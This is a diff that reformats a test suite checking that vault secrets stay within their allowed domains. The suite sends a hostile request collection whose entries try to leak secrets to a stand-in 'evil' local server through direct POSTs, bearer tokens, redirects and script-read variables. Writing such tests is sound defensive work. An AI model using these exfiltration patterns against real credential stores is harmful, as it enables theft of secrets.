@@ -40,15 +40,26 @@ describe('allowed domains against a hostile collection', () => {
           { name: 'allowed, port in URL', request: { url: `${G}/allowed?k=${both}`, header: [{ key: 'X-K', value: both }] } },
           {
             name: 'direct to evil',
-            request: { method: 'POST', url: `${E}/direct?k=${both}`, header: [{ key: 'X-K', value: both }], body: { mode: 'raw', raw: both } },
+            request: {
+              method: 'POST',
+              url: `${E}/direct?k=${both}`,
+              header: [{ key: 'X-K', value: both }],
+              body: { mode: 'raw', raw: both },
+            },
           },
           { name: 'variable-built URL', request: { url: '{{target}}/variable', header: [{ key: 'X-K', value: '{{nested}}' }] } },
-          { name: 'bearer to evil', request: { url: `${E}/bearer`, auth: { type: 'bearer', bearer: [{ key: 'token', value: '{{vault:restricted}}' }] } } },
+          {
+            name: 'bearer to evil',
+            request: { url: `${E}/bearer`, auth: { type: 'bearer', bearer: [{ key: 'token', value: '{{vault:restricted}}' }] } },
+          },
           {
             name: 'redirect carries a header',
             request: { url: `${G}/redirect?to=${encodeURIComponent(`${E}/landed-header`)}`, header: [{ key: 'X-K', value: both }] },
           },
-          { name: 'redirect carries the Referer', request: { url: `${G}/redirect?to=${encodeURIComponent(`${E}/landed-referer`)}&k={{vault:restricted}}` } },
+          {
+            name: 'redirect carries the Referer',
+            request: { url: `${G}/redirect?to=${encodeURIComponent(`${E}/landed-referer`)}&k={{vault:restricted}}` },
+          },
           {
             name: '307 redirect carries the body',
             request: {
@@ -59,11 +70,24 @@ describe('allowed domains against a hostile collection', () => {
           },
           {
             name: 'redirect within the allowed host is followed',
-            request: { url: `${G}/redirect?to=${encodeURIComponent('/same-host')}`, header: [{ key: 'X-K', value: '{{vault:restricted}}' }] },
+            request: {
+              url: `${G}/redirect?to=${encodeURIComponent('/same-host')}`,
+              header: [{ key: 'X-K', value: '{{vault:restricted}}' }],
+            },
           },
           {
             name: 'script reads the sent request',
-            request: { url: `${G}/script-source`, header: [{ key: 'X-K', value: both }], auth: { type: 'basic', basic: [{ key: 'username', value: 'u' }, { key: 'password', value: '{{vault:restricted}}' }] } },
+            request: {
+              url: `${G}/script-source`,
+              header: [{ key: 'X-K', value: both }],
+              auth: {
+                type: 'basic',
+                basic: [
+                  { key: 'username', value: 'u' },
+                  { key: 'password', value: '{{vault:restricted}}' },
+                ],
+              },
+            },
             test: [
               'const header = pm.request.headers.get("X-K");',
               'const auth = pm.request.headers.get("Authorization") || "";',
@@ -72,8 +96,20 @@ describe('allowed domains against a hostile collection', () => {
               'pm.vault.get("restricted").then((v) => pm.environment.set("via_vault", String(v)), (e) => pm.environment.set("via_vault", "denied: " + (e && e.message || e)));',
             ],
           },
-          { name: 'stolen variable to evil', request: { url: `${E}/stolen`, header: [{ key: 'X-S', value: '{{stolen}}' }, { key: 'X-V', value: '{{via_vault}}' }] } },
-          { name: 'wildcard subdomain', request: { url: `http://api.localhost:${good.port}/wild`, header: [{ key: 'X-W', value: '{{vault:wild}}' }] } },
+          {
+            name: 'stolen variable to evil',
+            request: {
+              url: `${E}/stolen`,
+              header: [
+                { key: 'X-S', value: '{{stolen}}' },
+                { key: 'X-V', value: '{{via_vault}}' },
+              ],
+            },
+          },
+          {
+            name: 'wildcard subdomain',
+            request: { url: `http://api.localhost:${good.port}/wild`, header: [{ key: 'X-W', value: '{{vault:wild}}' }] },
+          },
           { name: 'wildcard does not match the IP', request: { url: `${G}/not-wild`, header: [{ key: 'X-W', value: '{{vault:wild}}' }] } },
           { name: 'wildcard to evil', request: { url: `${E}/wild`, header: [{ key: 'X-W', value: '{{vault:wild}}' }] } },
         ],
@@ -106,7 +142,9 @@ describe('allowed domains against a hostile collection', () => {
     const direct = evil.requests.find((request) => request.url.startsWith('/direct'));
     expect(direct?.headers['x-k']).toBe('{{vault:restricted}}.{{vault:linked_restricted}}');
     expect(direct?.body).toBe('{{vault:restricted}}.{{vault:linked_restricted}}');
-    expect(evil.requests.find((request) => request.url === '/variable')?.headers['x-k']).toBe('{{vault:restricted}}.{{vault:linked_restricted}}');
+    expect(evil.requests.find((request) => request.url === '/variable')?.headers['x-k']).toBe(
+      '{{vault:restricted}}.{{vault:linked_restricted}}',
+    );
     expect(evil.requests.find((request) => request.url === '/bearer')?.headers['authorization']).toBe('Bearer {{vault:restricted}}');
   });
 
@@ -142,9 +180,13 @@ describe('allowed domains against a hostile collection', () => {
     expect(summary.vaultlink.exitCode).toBe(1);
     // Each reference sent literally is named once per reason, with its allowed domains, never its value.
     expect(warnings).toEqual([
-      expect.stringMatching(/^\{\{vault:restricted\}\} was sent literally to 127\.0\.0\.2:\d+ \(URL\): it is not allowed for this host \(allowed domains: http:\/\/127\.0\.0\.1\)\.$/),
+      expect.stringMatching(
+        /^\{\{vault:restricted\}\} was sent literally to 127\.0\.0\.2:\d+ \(URL\): it is not allowed for this host \(allowed domains: http:\/\/127\.0\.0\.1\)\.$/,
+      ),
       expect.stringMatching(/^\{\{vault:linked_restricted\}\} was sent literally to 127\.0\.0\.2:\d+ \(URL\)/),
-      expect.stringMatching(/^\{\{vault:wild\}\} was sent literally to 127\.0\.0\.1:\d+ \(header X-W\): it is not allowed for this host \(allowed domains: http:\/\/\*\.localhost\)\.$/),
+      expect.stringMatching(
+        /^\{\{vault:wild\}\} was sent literally to 127\.0\.0\.1:\d+ \(header X-W\): it is not allowed for this host \(allowed domains: http:\/\/\*\.localhost\)\.$/,
+      ),
     ]);
     expect(warnings.join('\n')).not.toContain(RESTRICTED);
   });
